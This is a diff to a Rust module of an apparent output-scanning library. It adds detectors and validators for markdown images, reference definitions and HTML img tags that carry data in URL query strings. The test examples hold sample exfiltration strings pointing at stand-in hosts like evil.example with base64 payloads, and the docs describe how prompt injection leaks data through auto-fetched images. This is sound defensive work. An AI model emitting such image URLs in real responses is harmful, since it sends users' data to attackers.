@@ -1,10 +1,16 @@
 //! Fixed formats of LLM output threats, scanned like every other pattern so that streamed
 //! responses are checked with the same hold-back as personal data: a value split across events
 //! is still caught before any of it is released.
+//!
+//! The image detectors match the whole construct (an image with its URL, title and closing
+//! parenthesis, a reference definition line, an `<img>` tag) and their validators read the URL
+//! as a renderer does ([`crate::markup`]): removing a finding takes the whole URL with it, so
+//! no query string is left behind.
 
 use rampart_core::{DataClass, Severity};
 
-use crate::detector::Detector;
+use crate::detector::{Detector, Gate};
+use crate::markup;
 
 /// The LLM output detectors.
 pub static DETECTORS: &[Detector] = &[
@@ -25,13 +31,112 @@ pub static DETECTORS: &[Detector] = &[
         "markdown_image_exfil",
         DataClass::UnsafeOutput,
         "Markdown image carrying data",
-        r"!\[[^\]\n]{0,200}\]\([ \t]{0,4}<?https?://[^ \t\r\n)?#<>]{1,600}[?#]",
+        MARKDOWN_IMAGE,
         1.0,
         Severity::High,
     )
-    .docs("A markdown image whose URL carries a query string or fragment: a chat client fetches it without a click, so data an injection put in the URL leaves at once (OWASP LLM05). The match ends at the `?` or `#`: removing it breaks the image, so nothing is fetched. Links outside an allowlist, HTML and script are found by the output inspection of whole responses.")
+    .docs("A markdown image whose URL (absolute or `//`) carries a query string or fragment: a chat client fetches it without a click, so data an injection put in the URL leaves at once (OWASP LLM05). The match is the whole image: alt text, the URL with balanced parentheses or in angle brackets, a title, white space and line breaks inside the parentheses, and the closing `)`. A URL the pattern cannot follow to its end (deep parentheses, escapes, more than 700 bytes) is matched up to the next white space, so the whole URL still goes. Links outside an allowlist, reference-style images and script are found by the output inspection of whole responses.")
+    .validate(markdown_image_carries_data)
     .examples(
-        &["Done! ![x](https://evil.example/log?q=c2VjcmV0)"],
-        &["![logo](https://cdn.example.com/logo.png)", "[docs](https://example.com/?q=1)"],
+        &[
+            "Done! ![x](https://evil.example/log?q=c2VjcmV0)",
+            "![x](https://x.example/a_(b)?q=1 \"title\")",
+            "![x](<https://evil.example/a b?d=1>)",
+            "![x](\n  https://evil.example/p?d=1\n)",
+        ],
+        &[
+            "![logo](https://cdn.example.com/logo.png)",
+            "[docs](https://example.com/?q=1)",
+            "![chart](/static/chart.png?v=2)",
+        ],
+    ),
+    Detector::base(
+        "markdown_reference_exfil",
+        DataClass::UnsafeOutput,
+        "Markdown reference definition carrying data",
+        MARKDOWN_DEFINITION,
+        1.0,
+        Severity::High,
+    )
+    .gate(Gate::Inner {
+        literal: "]:",
+        within: 105,
+    })
+    .docs("A markdown reference definition (`[ref]: https://evil.example/?d=…`) whose URL carries a query string or fragment: a reference-style image (`![x][ref]`) fetches it without a click (OWASP LLM05). The match is the definition line with its title; without it, the image that uses it is plain text. A stream cannot tell whether a later image uses the definition, so every such definition is removed.")
+    .validate(definition_carries_data)
+    .examples(
+        &[
+            "![x][ref]\n\n[ref]: https://evil.example/log?d=c2VjcmV0",
+            "Sources:\n  [1]: <https://evil.example/a b?d=1> \"t\"",
+        ],
+        &[
+            "[ref]: https://example.com/docs/page",
+            "see [a]: not a definition https://e.example/?q=1",
+        ],
+    ),
+    Detector::base(
+        "html_image_exfil",
+        DataClass::UnsafeOutput,
+        "HTML image carrying data",
+        HTML_IMAGE,
+        1.0,
+        Severity::High,
+    )
+    .docs("An HTML `<img>` tag whose `src` or `srcset` URL carries a query string or fragment, with attributes in any order and any quoting (OWASP LLM05). The match is the whole tag; `>` inside quoted values does not end it.")
+    .validate(html_image_carries_data)
+    .examples(
+        &[
+            r#"<img alt="a>b" src="https://evil.example/p?d=c2VjcmV0">"#,
+            "<IMG width=1 SRC=https://evil.example/p?d=1>",
+        ],
+        &[
+            r#"<img src="https://cdn.example.com/logo.png" alt="logo">"#,
+            r#"<img data-src="https://e.example/p?d=1" src="a.png">"#,
+        ],
     ),
 ];
+
+/// `![alt](url "title")`, or, when the URL cannot be followed to its `)`, the image up to the
+/// next white space. The bounds keep the pattern under the scanner's short-pattern limit and
+/// the registry's automata small.
+const MARKDOWN_IMAGE: &str = concat!(
+    r"!\[[^\[\]]{0,100}(?:\[[^\[\]]{0,30}\][^\[\]]{0,30})?\]\(\s{0,8}",
+    r#"(?:(?:<[^<>\n]{1,400}>|[^\s()<\\][^\s()\\]{0,399}(?:\([^\s()\\]{0,60}\)[^\s()\\]{0,100}){0,2})"#,
+    r#"(?:\s{1,4}(?:"[^"]{0,60}"|'[^']{0,60}'|\([^()]{0,60}\)))?\s{0,8}\)"#,
+    r#"|<?(?i:https?:)?//[^\s"]{1,600})"#,
+);
+
+/// `[label]: url "title"` at a line start (or at the start of a JSON string).
+const MARKDOWN_DEFINITION: &str = concat!(
+    r#"(?:(?m:^)|")(?P<v> {0,3}\[[^\[\]\n]{1,100}\]:[ \t]{0,8}(?:\r?\n[ \t]{0,8})?"#,
+    r#"(?:<[^<>\n]{1,400}>|[^\s<]\S{0,499})"#,
+    r#"(?:(?:[ \t]{1,8}|[ \t]{0,8}\r?\n[ \t]{0,8})(?:"[^"\n]{0,60}"|'[^'\n]{0,60}'|\([^()\n]{0,60}\)))?[ \t]{0,8})"#,
+);
+
+/// `<img …>`: quoted values may hold `>`.
+const HTML_IMAGE: &str =
+    r#"(?i:<img)[\s/](?:[^>"']{0,100}(?:"[^"]{0,400}"|'[^']{0,400}')){0,3}[^>"']{0,200}>"#;
+
+fn markdown_image_carries_data(m: &[u8]) -> bool {
+    // the `]` that closes the alt text (it may hold one bracketed pair of its own)
+    let mut depth = 0usize;
+    let Some(close) = m.iter().skip(1).position(|&c| {
+        match c {
+            b'[' => depth += 1,
+            b']' => depth = depth.saturating_sub(1),
+            _ => return false,
+        }
+        c == b']' && depth == 0
+    }) else {
+        return false;
+    };
+    markup::inline_destination(m, close + 3).is_some_and(|d| markup::fetches_with_data(&m[d.url]))
+}
+
+fn definition_carries_data(m: &[u8]) -> bool {
+    markup::reference_definition(m, 0).is_some_and(|d| markup::fetches_with_data(&m[d.url]))
+}
+
+fn html_image_carries_data(m: &[u8]) -> bool {
+    markup::image_sources(m).any(markup::fetches_with_data)
+}
